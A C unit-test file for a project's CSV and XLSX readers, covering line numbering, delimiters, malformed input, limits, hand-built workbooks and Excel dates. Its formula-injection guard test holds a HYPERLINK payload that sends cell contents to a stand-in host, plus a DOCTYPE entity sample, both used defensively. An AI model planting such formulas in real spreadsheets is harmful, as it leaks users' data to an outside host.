/*
 * test_table.c - the CSV and XLSX readers: cells, physical line numbers (quoted newlines, CRLF,
 * blank lines, CR-only files), delimiters, malformed input and limits; XLSX written by
 * libxlsxwriter (shared strings and inline strings) and by hand (namespaces prefixes, rich text
 * with phonetic runs, cell types, missing references, the 1904 date system, a DOCTYPE).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <xlsxwriter.h>
#include <zip.h>

#include "io/table.h"
#include "util/buf.h"
#include "util/date.h"
#include "util/xmalloc.h"

/* ---- collecting rows -------------------------------------------------------------------- */

struct got_row {
    long line, end_line;
    size_t n;
    char *cell[16];
    long cell_line[16];
    bool number[16];
};

struct got {
    struct got_row rows[64];
    size_t n;
    size_t stop_after; /* 0: never */
    struct io_table_info info;
};

static int collect(void *ctx, const struct io_table_info *info, const struct io_row *row)
{
    struct got *g = ctx;
    g->info = *info;
    assert_true(g->n < 64);
    struct got_row *r = &g->rows[g->n++];
    r->line = row->line;
    r->end_line = row->end_line;
    r->n = row->n;
    assert_true(row->n <= 16);
    for (size_t i = 0; i < row->n; i++) {
        assert_int_equal(row->cells[i].ptr[row->cells[i].len], '\0');
        r->cell[i] = xstrndup(row->cells[i].ptr, row->cells[i].len);
        r->cell_line[i] = row->cells[i].line;
        r->number[i] = row->cells[i].number;
    }
    return g->stop_after && g->n >= g->stop_after;
}

static void got_release(struct got *g)
{
    for (size_t k = 0; k < g->n; k++)
        for (size_t i = 0; i < g->rows[k].n; i++)
            free(g->rows[k].cell[i]);
    memset(g, 0, sizeof(*g));
}

static enum tcxd_err read_csv(const char *s, struct got *g, struct tcxd_error *e)
{
    memset(g, 0, sizeof(*g));
    tcxd_error_clear(e);
    return io_csv_read(s, strlen(s), collect, g, NULL, NULL, e);
}

/* ---- CSV -------------------------------------------------------------------------------- */

static void test_csv_basic(void **state)
{
    struct got g;
    struct tcxd_error e;
    assert_int_equal(read_csv("\xEF\xBB\xBFh1,h2\r\n1,2\r\nx,\r\n", &g, &e), TCXD_OK);
    assert_int_equal(g.n, 3);
    assert_string_equal(g.rows[0].cell[0], "h1"); /* the BOM is not part of the first cell */
    assert_int_equal(g.rows[1].line, 2);
    assert_string_equal(g.rows[1].cell[1], "2");
    assert_int_equal(g.rows[2].line, 3);
    assert_int_equal(g.rows[2].n, 2);
    assert_string_equal(g.rows[2].cell[1], "");
    assert_int_equal(g.info.delim, ',');
    assert_int_equal(g.info.format, IO_FORMAT_CSV);
    assert_false(g.rows[1].number[0]);
    got_release(&g);
}

/* The guard against formulas (OWASP CSV injection): what buf_add_csv_field writes, the reader
   gives back exactly; the written form is spelled out here for a few values. */
static void test_csv_formula_guard(void **state)
{
    static const char *const values[] = {
        "=HYPERLINK(\"http://x.invalid/?\"&G2,\"Xem\")",
        "+84 912",
        "-x",
        "@SUM(A1)",
        "\tTab",
        "\rcr",
        "'=already guarded by a person",
        "''+two",
        "'plain apostrophe",
        "-3",
        "+1,5",
        "-17,9%",
        "Hà Nội, Việt Nam",
        "",
    };
    enum { N = sizeof(values) / sizeof(values[0]) };
    /* spelled out: a leading apostrophe inside quotes, none for numbers and plain text */
    static const char *const written[][2] = {
        {"=1+2", "\"'=1+2\""}, {"-x", "\"'-x\""},     {"-3", "-3"},         {"'=x", "\"''=x\""},
        {"'plain", "'plain"},  {"@a;b", "\"'@a;b\""}, {"+1,5", "\"+1,5\""}, {"a\"b", "\"a\"\"b\""},
    };
    for (size_t i = 0; i < sizeof(written) / sizeof(written[0]); i++) {
        struct buf b = BUF_INIT;
        buf_add_csv_field(&b, written[i][0]);
        assert_string_equal(b.ptr, written[i][1]);
        buf_release(&b);
    }
    struct buf b = BUF_INIT;
    buf_add_csv_field_sep(&b, "@a;b", ';');
    assert_string_equal(b.ptr, "\"'@a;b\"");
    buf_reset(&b);
    buf_add_csv_field_sep(&b, "a;b", ';');
    assert_string_equal(b.ptr, "\"a;b\"");
    buf_reset(&b);
    buf_adds(&b, "h,v\r\n");
    for (size_t i = 0; i < N; i++) {
        buf_addf(&b, "%zu,", i);
        buf_add_csv_field(&b, values[i]);
        buf_adds(&b, "\r\n");
    }
    struct got g;
    struct tcxd_error e;
    assert_int_equal(read_csv(b.ptr, &g, &e), TCXD_OK);
    assert_int_equal(g.n, N + 1);
    for (size_t i = 0; i < N; i++) {
        assert_int_equal(g.rows[i + 1].n, 2);
        assert_string_equal(g.rows[i + 1].cell[1], values[i]);
    }
    got_release(&g);
    buf_release(&b);
}

static void test_csv_quoted_newlines(void **state)
{
    struct got g;
    struct tcxd_error e;
    /* line 2 opens a quoted field that ends on line 4; the next row is line 5 */
    const char *s = "a,b,c\n"
                    "\"first\nsecond\r\nthird\",\"say \"\"hi\"\"\",z\n"
                    "q,\"x,y\",w\n";
    assert_int_equal(read_csv(s, &g, &e), TCXD_OK);
    assert_int_equal(g.n, 3);
    assert_int_equal(g.rows[1].line, 2);
    assert_int_equal(g.rows[1].end_line, 4);
    assert_string_equal(g.rows[1].cell[0], "first\nsecond\r\nthird");
    assert_int_equal(g.rows[1].cell_line[0], 2);
    assert_string_equal(g.rows[1].cell[1], "say \"hi\"");
    assert_int_equal(g.rows[1].cell_line[1], 4);
    assert_int_equal(g.rows[1].cell_line[2], 4);
    assert_int_equal(g.rows[2].line, 5);
    assert_string_equal(g.rows[2].cell[1], "x,y");
    got_release(&g);
}

static void test_csv_blank_lines_and_endings(void **state)
{
    struct got g;
    struct tcxd_error e;
    assert_int_equal(read_csv("a\n\n\r\nb\n\nc", &g, &e), TCXD_OK);
    assert_int_equal(g.n, 3);
    assert_int_equal(g.rows[0].line, 1);
    assert_int_equal(g.rows[1].line, 4);
    assert_int_equal(g.rows[2].line, 6); /* no newline at the end */
    assert_string_equal(g.rows[2].cell[0], "c");
    got_release(&g);

    /* classic Mac: CR only */
    assert_int_equal(read_csv("a,b\r1,2\r\r3,4\r", &g, &e), TCXD_OK);
    assert_int_equal(g.n, 3);
    assert_int_equal(g.rows[1].line, 2);
    assert_int_equal(g.rows[2].line, 4);
    got_release(&g);

    assert_int_equal(read_csv("", &g, &e), TCXD_OK);
    assert_int_equal(g.n, 0);
}

static void test_csv_delimiters(void **state)
{
    struct got g;
    struct tcxd_error e;
    assert_int_equal(read_csv("Họ tên;Điểm;Ghi chú\nA;2,5;\"x;y\"\n", &g, &e), TCXD_OK);
    assert_int_equal(g.info.delim, ';');
    assert_int_equal(g.rows[1].n, 3);
    assert_string_equal(g.rows[1].cell[1], "2,5");
    assert_string_equal(g.rows[1].cell[2], "x;y");
    got_release(&g);
    assert_int_equal(read_csv("a\tb\tc\n1\t2 3\t\n", &g, &e), TCXD_OK);
    assert_int_equal(g.info.delim, '\t');
    assert_int_equal(g.rows[1].n, 3);
    assert_string_equal(g.rows[1].cell[1], "2 3");
    got_release(&g);
    /* a comma inside a quoted header does not count */
    assert_int_equal(read_csv("\"a,b,c\";d\n1;2\n", &g, &e), TCXD_OK);
    assert_int_equal(g.info.delim, ';');
    assert_string_equal(g.rows[0].cell[0], "a,b,c");
    got_release(&g);
}

static void test_csv_malformed(void **state)
{
    struct got g;
    struct tcxd_error e;
    /* a quote inside an unquoted field, on line 3 */
    assert_int_equal(read_csv("a,b\n1,2\n3,x\"y\n", &g, &e), TCXD_EINVAL);
    assert_string_equal(e.field, "file");
    assert_non_null(strstr(e.msg, "line 3"));
    assert_non_null(strstr(e.msg, "quot"));
    got_release(&g);
    /* text after a closing quote */
    assert_int_equal(read_csv("a,b\n\"x\"y,2\n", &g, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, "line 2"));
    got_release(&g);
    /* a quoted field opened on line 3 and never closed */
    assert_int_equal(read_csv("a,b\n1,2\n3,\"never\n4,5\n6,7\n", &g, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, "line 3"));
    assert_non_null(strstr(e.msg, "never closed"));
    got_release(&g);
}

static void test_csv_limits_and_stop(void **state)
{
    struct got g;
    struct tcxd_error e;
    struct buf b = BUF_INIT;
    buf_adds(&b, "a,b\n1,");
    for (int i = 0; i < IO_CELL_MAX + 10; i++)
        buf_addch(&b, 'x');
    buf_adds(&b, "\n");
    assert_int_equal(read_csv(b.ptr, &g, &e), TCXD_ETOOBIG);
    assert_non_null(strstr(e.msg, "line 2"));
    got_release(&g);
    buf_reset(&b);
    for (int i = 0; i <= IO_COLS_MAX; i++)
        buf_adds(&b, "x,");
    buf_adds(&b, "\n");
    assert_int_equal(read_csv(b.ptr, &g, &e), TCXD_ETOOBIG);
    got_release(&g);
    buf_release(&b);

    memset(&g, 0, sizeof(g));
    g.stop_after = 2;
    const char *s = "a\nb\nc\nd\n";
    assert_int_equal(io_csv_read(s, strlen(s), collect, &g, NULL, NULL, &e), TCXD_OK);
    assert_int_equal(g.n, 2);
    got_release(&g);
}

/* ---- XLSX written by libxlsxwriter ------------------------------------------------------ */

static char tmpdir[256];

static void read_whole(const char *path, struct buf *out)
{
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    char chunk[4096];
    size_t n;
    while ((n = fread(chunk, 1, sizeof(chunk), f)) > 0)
        buf_add(out, chunk, n);
    fclose(f);
}

static void write_book(const char *path, bool constant_memory)
{
    lxw_workbook_options o = {.constant_memory = constant_memory, .tmpdir = NULL};
    lxw_workbook *wb = workbook_new_opt(path, &o);
    assert_non_null(wb);
    lxw_worksheet *ws = workbook_add_worksheet(wb, "Danh sách");
    lxw_format *df = workbook_add_format(wb);
    format_set_num_format(df, "dd/mm/yyyy");
    worksheet_write_string(ws, 0, 0, "Họ và tên", NULL);
    worksheet_write_string(ws, 0, 1, "Ngày sinh", NULL);
    worksheet_write_string(ws, 0, 3, "Số CCCD", NULL); /* column C left empty */
    /* row 2 (index 1) left out entirely; row 3: */
    worksheet_write_string(ws, 2, 0, "Nguyễn Thị Ánh", NULL);
    lxw_datetime dt = {1985, 2, 28, 0, 0, 0};
    worksheet_write_datetime(ws, 2, 1, &dt, df);
    worksheet_write_number(ws, 2, 3, 1089012345, NULL);
    worksheet_write_string(ws, 3, 0, "Nguyễn Thị Ánh", NULL); /* a repeated shared string */
    worksheet_write_string(ws, 3, 2, "<&>\"", NULL);
    assert_int_equal(workbook_close(wb), LXW_NO_ERROR);
}

static void check_book(const struct got *g)
{
    assert_int_equal(g->n, 3);
    assert_int_equal(g->info.format, IO_FORMAT_XLSX);
    assert_false(g->info.date1904);
    assert_int_equal(g->rows[0].line, 1);
    assert_int_equal(g->rows[0].n, 4);
    assert_string_equal(g->rows[0].cell[0], "Họ và tên");
    assert_string_equal(g->rows[0].cell[2], "");
    assert_string_equal(g->rows[0].cell[3], "Số CCCD");
    assert_int_equal(g->rows[1].line, 3);
    assert_string_equal(g->rows[1].cell[0], "Nguyễn Thị Ánh");
    assert_true(g->rows[1].number[1]);
    int y, m, d;
    assert_true(io_excel_serial_date(g->rows[1].cell[1], false, &y, &m, &d));
    assert_int_equal(y, 1985);
    assert_int_equal(m, 2);
    assert_int_equal(d, 28);
    assert_true(g->rows[1].number[3]);
    assert_int_equal(strtoll(g->rows[1].cell[3], NULL, 10), 1089012345);
    assert_false(g->rows[1].number[0]);
    assert_int_equal(g->rows[2].line, 4);
    assert_string_equal(g->rows[2].cell[0], "Nguyễn Thị Ánh");
    assert_int_equal(g->rows[2].n, 3); /* trailing empty cells dropped */
    assert_string_equal(g->rows[2].cell[2], "<&>\"");
    assert_int_equal(g->rows[2].cell_line[2], 4);
}

static void test_xlsx_written(void **state)
{
    for (int cm = 0; cm < 2; cm++) {
        char path[512];
        snprintf(path, sizeof(path), "%s/book%d.xlsx", tmpdir, cm);
        write_book(path, cm);
        struct buf data = BUF_INIT;
        read_whole(path, &data);
        struct got g;
        memset(&g, 0, sizeof(g));
        struct tcxd_error e;
        tcxd_error_clear(&e);
        enum tcxd_err rc = io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e);
        if (rc)
            fail_msg("%s", e.msg);
        check_book(&g);
        got_release(&g);
        enum io_format f;
        assert_int_equal(io_format_detect(data.ptr, data.len, "x.bin", &f, &e), TCXD_OK);
        assert_int_equal(f, IO_FORMAT_XLSX);
        buf_release(&data);
    }
}

/* ---- XLSX made by hand ------------------------------------------------------------------ */

struct part {
    const char *name, *text;
};

static void zip_parts(const struct part *parts, size_t n, struct buf *out)
{
    char path[512];
    snprintf(path, sizeof(path), "%s/hand.zip", tmpdir);
    unlink(path);
    int err = 0;
    zip_t *z = zip_open(path, ZIP_CREATE | ZIP_TRUNCATE, &err);
    assert_non_null(z);
    for (size_t i = 0; i < n; i++) {
        zip_source_t *s = zip_source_buffer(z, parts[i].text, strlen(parts[i].text), 0);
        assert_non_null(s);
        assert_true(zip_file_add(z, parts[i].name, s, ZIP_FL_OVERWRITE) >= 0);
    }
    assert_int_equal(zip_close(z), 0);
    buf_reset(out);
    read_whole(path, out);
}

static const char wb_1904[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>"
    "<x:workbook xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:rr=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\">"
    "<x:workbookPr date1904=\"1\"/><x:sheets><x:sheet name=\"A\" sheetId=\"1\" rr:id=\"rId7\"/>"
    "<x:sheet name=\"B\" sheetId=\"2\" rr:id=\"rId8\"/></x:sheets></x:workbook>";
static const char rels[] =
    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId8\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/worksheet\" Target=\"worksheets/other.xml\"/>"
    "<Relationship Id=\"rId7\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/worksheet\" Target=\"/xl/worksheets/first.xml\"/>"
    "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/sharedStrings\" Target=\"strings.xml\"/></Relationships>";
static const char sst[] =
    "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<si><t>Mã</t></si>"
    "<si><r><t>Trần </t></r><r><rPr><b/></rPr><t xml:space=\"preserve\">Văn Bình</t></r>"
    "<rPh sb=\"0\" eb=\"1\"><t>PHONETIC</t></rPh></si></sst>";
static const char first[] =
    "<x:worksheet xmlns:x=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
    "<x:sheetData>"
    "<x:row><x:c t=\"s\"><x:v>0</x:v></x:c><x:c t=\"inlineStr\"><x:is><x:t>Tên</x:t></x:is>"
    "</x:c></x:row>"
    "<x:row r=\"5\"><x:c r=\"A5\" t=\"s\"><x:v>1</x:v></x:c><x:c r=\"C5\" t=\"b\"><x:v>1</x:v>"
    "</x:c><x:c t=\"e\"><x:v>#N/A</x:v></x:c><x:c t=\"str\"><x:f>A5</x:f><x:v>f(x)</x:v></x:c>"
    "<x:c><x:v>0</x:v></x:c><x:c t=\"d\"><x:v>2020-12-31T00:00:00</x:v></x:c></x:row>"
    "<x:row r=\"6\"><x:c r=\"B6\"/></x:row>"
    "</x:sheetData></x:worksheet>";
static const char other[] = "<worksheet><sheetData><row><c t=\"inlineStr\"><is><t>wrong sheet"
                            "</t></is></c></row></sheetData></worksheet>";

static void test_xlsx_by_hand(void **state)
{
    struct part parts[] = {{"xl/workbook.xml", wb_1904},
                           {"xl/_rels/workbook.xml.rels", rels},
                           {"xl/strings.xml", sst},
                           {"xl/worksheets/first.xml", first},
                           {"xl/worksheets/other.xml", other}};
    struct buf data = BUF_INIT;
    zip_parts(parts, 5, &data);
    struct got g;
    memset(&g, 0, sizeof(g));
    struct tcxd_error e;
    tcxd_error_clear(&e);
    enum tcxd_err rc = io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e);
    if (rc)
        fail_msg("%s", e.msg);
    assert_true(g.info.date1904);
    assert_int_equal(g.n, 2); /* row 6 has no value */
    assert_string_equal(g.rows[0].cell[0], "Mã");
    assert_string_equal(g.rows[0].cell[1], "Tên");
    assert_int_equal(g.rows[1].line, 5);
    assert_int_equal(g.rows[1].n, 7);
    assert_string_equal(g.rows[1].cell[0], "Trần Văn Bình"); /* rich runs joined, no phonetic */
    assert_string_equal(g.rows[1].cell[1], "");
    assert_string_equal(g.rows[1].cell[2], "1"); /* boolean */
    assert_false(g.rows[1].number[2]);
    assert_string_equal(g.rows[1].cell[3], "#N/A");
    assert_string_equal(g.rows[1].cell[4], "f(x)");
    assert_true(g.rows[1].number[5]);
    int y, m, d;
    assert_true(io_excel_serial_date(g.rows[1].cell[5], true, &y, &m, &d));
    assert_int_equal(y, 1904);
    assert_int_equal(m, 1);
    assert_int_equal(d, 1);
    assert_string_equal(g.rows[1].cell[6], "2020-12-31"); /* t="d": the date part */
    got_release(&g);

    /* a DOCTYPE is refused */
    struct part evil[] = {{"xl/workbook.xml",
                           "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaa\">]>"
                           "<workbook><sheets/></workbook>"}};
    zip_parts(evil, 1, &data);
    memset(&g, 0, sizeof(g));
    assert_int_equal(io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, "DOCTYPE"));

    /* a zip that is not a workbook */
    struct part notbook[] = {{"hello.txt", "hi"}};
    zip_parts(notbook, 1, &data);
    assert_int_equal(io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, "xl/workbook.xml"));

    /* a shared string index past the table */
    struct part badidx[] = {
        {"xl/workbook.xml", "<workbook><sheets/></workbook>"},
        {"xl/worksheets/sheet1.xml",
         "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"s\"><v>3</v></c></row></sheetData>"
         "</worksheet>"}};
    zip_parts(badidx, 2, &data);
    assert_int_equal(io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, "row 1"));

    /* bad XML */
    struct part badxml[] = {{"xl/workbook.xml", "<workbook><sheets/></workbook>"},
                            {"xl/worksheets/sheet1.xml", "<worksheet><sheetData><row>"}};
    zip_parts(badxml, 2, &data);
    assert_int_equal(io_xlsx_read(data.ptr, data.len, collect, &g, NULL, NULL, &e), TCXD_EINVAL);

    /* not a zip at all */
    assert_int_equal(io_xlsx_read("PK\3\4garbage", 11, collect, &g, NULL, NULL, &e), TCXD_EINVAL);
    buf_release(&data);
}

/* ---- dates and detection ---------------------------------------------------------------- */

static void test_excel_serial(void **state)
{
    int y, m, d;
    /* serials counted by hand: day 1 = 1/1/1900, Excel's phantom 29/02/1900 is serial 60 */
    struct {
        const char *s;
        bool ok;
        int y, m, d;
    } cases[] = {
        {"1", true, 1900, 1, 1},       {"59", true, 1900, 2, 28},        {"60", false, 0, 0, 0},
        {"61", true, 1900, 3, 1},      {"366", true, 1900, 12, 31},      {"367", true, 1901, 1, 1},
        {"44196", true, 2020, 12, 31}, {"44196.75", true, 2020, 12, 31}, {"0", false, 0, 0, 0},
        {"-3", false, 0, 0, 0},        {"abc", false, 0, 0, 0},          {"", false, 0, 0, 0},
        {"1e300", false, 0, 0, 0},
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        bool ok = io_excel_serial_date(cases[i].s, false, &y, &m, &d);
        if (ok != cases[i].ok)
            fail_msg("serial '%s': %d", cases[i].s, ok);
        if (ok) {
            assert_int_equal(y, cases[i].y);
            assert_int_equal(m, cases[i].m);
            assert_int_equal(d, cases[i].d);
        }
    }
    /* 1904 system: serial 0 = 1/1/1904, and 1462 days later than the 1900 system */
    assert_true(io_excel_serial_date("0", true, &y, &m, &d));
    assert_int_equal(y * 10000 + m * 100 + d, 19040101);
    assert_true(io_excel_serial_date("42734", true, &y, &m, &d));
    assert_int_equal(y * 10000 + m * 100 + d, 20201231);
}

static void test_detect(void **state)
{
    enum io_format f;
    struct tcxd_error e;
    assert_int_equal(io_format_detect("a,b\n", 4, "x.csv", &f, &e), TCXD_OK);
    assert_int_equal(f, IO_FORMAT_CSV);
    assert_int_equal(io_format_detect("a,b\n", 4, NULL, &f, &e), TCXD_OK);
    assert_int_equal(f, IO_FORMAT_CSV);
    assert_int_equal(io_format_detect("a,b\n", 4, "x.xlsx", &f, &e), TCXD_EINVAL);
    assert_int_equal(io_format_detect("a,b\n", 4, "old.XLS", &f, &e), TCXD_EINVAL);
    assert_non_null(strstr(e.msg, ".xls"));
    assert_int_equal(io_format_detect("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1xx", 10, "f", &f, &e),
                     TCXD_EINVAL);
    assert_int_equal(io_format_detect("a\0b\0", 4, "u16.csv", &f, &e), TCXD_EINVAL);
    assert_int_equal(io_format_detect("PK\3\4", 4, "x.ods", &f, &e), TCXD_EINVAL);
    assert_int_equal(io_format_parse("XLSX", &f, &e), TCXD_OK);
    assert_int_equal(f, IO_FORMAT_XLSX);
    assert_int_equal(io_format_parse("ods", &f, &e), TCXD_EINVAL);
}

int main(void)
{
    snprintf(tmpdir, sizeof(tmpdir), "%s/tcxd-test-table-XXXXXX",
             getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp");
    if (!mkdtemp(tmpdir))
        return 1;
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_csv_basic),
        cmocka_unit_test(test_csv_formula_guard),
        cmocka_unit_test(test_csv_quoted_newlines),
        cmocka_unit_test(test_csv_blank_lines_and_endings),
        cmocka_unit_test(test_csv_delimiters),
        cmocka_unit_test(test_csv_malformed),
        cmocka_unit_test(test_csv_limits_and_stop),
        cmocka_unit_test(test_xlsx_written),
        cmocka_unit_test(test_xlsx_by_hand),
        cmocka_unit_test(test_excel_serial),
        cmocka_unit_test(test_detect),
    };
    int rc = cmocka_run_group_tests(tests, NULL, NULL);
    char cmd[600];
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", tmpdir);
    if (system(cmd) != 0)
        rc = rc ? rc : 1;
    return rc;
}
